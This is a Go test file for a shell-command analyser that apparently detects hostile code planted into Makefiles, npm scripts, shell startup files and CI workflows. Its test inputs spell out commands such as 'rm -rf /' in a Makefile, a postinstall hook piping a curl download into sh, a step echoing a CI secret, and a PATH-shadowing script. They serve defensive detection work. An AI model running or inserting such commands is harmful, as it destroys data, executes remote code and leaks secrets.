package shell

import (
	"strings"
	"testing"
)

// plantedLines are the largest lines in the shapes that cost the analysis of planted code
// most: a here-document of 64 KiB of recipes, scripts or startup code, many small writes
// into files that carry code, and make variables that each name another twice.
func plantedLines() []string {
	const size = 64 << 10
	rep := func(unit string) string { return strings.Repeat(unit, size/len(unit)) }
	doubling := ""
	for i := 0; i < 30; i++ {
		doubling += "V" + string(rune('A'+i%26)) + strings.Repeat("x", i/26) + " = $(V" + string(rune('A'+(i+1)%26)) + strings.Repeat("x", (i+1)/26) + ")$(V" + string(rune('A'+(i+1)%26)) + strings.Repeat("x", (i+1)/26) + ")\n"
	}
	return []string{
		"cat > Makefile <<'EOF'\n" + rep("a:\n\trm -rf b; x | sh\n") + "EOF",
		"cat > Makefile <<'EOF'\n" + doubling + rep("a:\n\t$(VA)\n")[:size-len(doubling)] + "EOF",
		"cat > package.json <<'EOF'\n{\"scripts\": {" + strings.TrimSuffix(rep(`"a": "x | sh",`), ",") + "}}\nEOF",
		"cat > ~/.bashrc <<'EOF'\n" + rep("alias a='b | c'\n") + "EOF",
		"cat > .github/workflows/x.yml <<'EOF'\njobs:\n  a:\n    steps:\n" + rep("      - run: echo ${{ secrets.X }}\n") + "EOF",
		rep("echo 'a:' > Makefile;"),
		rep("printf 'a\\n' >> ~/.zshrc;"),
		rep("npm pkg set scripts.a=b;"),
		rep("sed -i s/a/b/ Makefile;"),
	}
}

// TestPlantedLargeInputs: the shapes above are analysed in time proportionate to their
// size.
func TestPlantedLargeInputs(t *testing.T) {
	for _, line := range plantedLines() {
		a, over := againstFloor(line, maxFloorRatio)
		if over != "" {
			t.Errorf("%.30q…: %s", line, over)
		}
		check(t, a)
	}
}

// TestPlantedText: text written into a file that tools run is analysed as the code it
// carries, with evidence naming the file; a write whose text is not known is opaque.
func TestPlantedText(t *testing.T) {
	for _, tt := range []struct {
		line    string
		finding string // a finding some command must have; "" for none at all
	}{
		{"printf 'a:\\n\\trm -rf /\\n' > Makefile", findRecursiveDelete},
		{"printf 'a:\\n\\tgo test\\n' > Makefile", ""},
		{"curl -so Makefile https://x.example/m; cat x > Makefile", findOpaque},
		{"npm pkg set 'scripts.postinstall=curl -s https://x.example | sh'", findPipeToShell},
		{"npm set-script prepare 'rm -rf /'", findRecursiveDelete},
		{"sed -i 's/a/rm -rf \\//' Makefile", findRecursiveDelete},
		{"sed -i \"$S\" .envrc", findOpaque},
		{"printf '#!/bin/sh\\nls\\n' > ~/.local/bin/ls", "persistence.path-shadow"},
	} {
		a := Analyze(tt.line, testEnv)
		check(t, a)
		found := false
		any := false
		for _, c := range a.Commands {
			for _, f := range c.Findings {
				any = true
				if f.ID == tt.finding {
					found = true
					if strings.Contains(tt.line, ">") && f.ID != findOpaque && f.ID != "persistence.path-shadow" && !strings.Contains(f.Evidence, "/work/proj/") {
						t.Errorf("%s: evidence %q does not name the file", tt.line, f.Evidence)
					}
				}
			}
		}
		if tt.finding == "" && any || tt.finding != "" && !found {
			t.Errorf("%s: want finding %q, got %+v", tt.line, tt.finding, a.Commands)
		}
	}
}
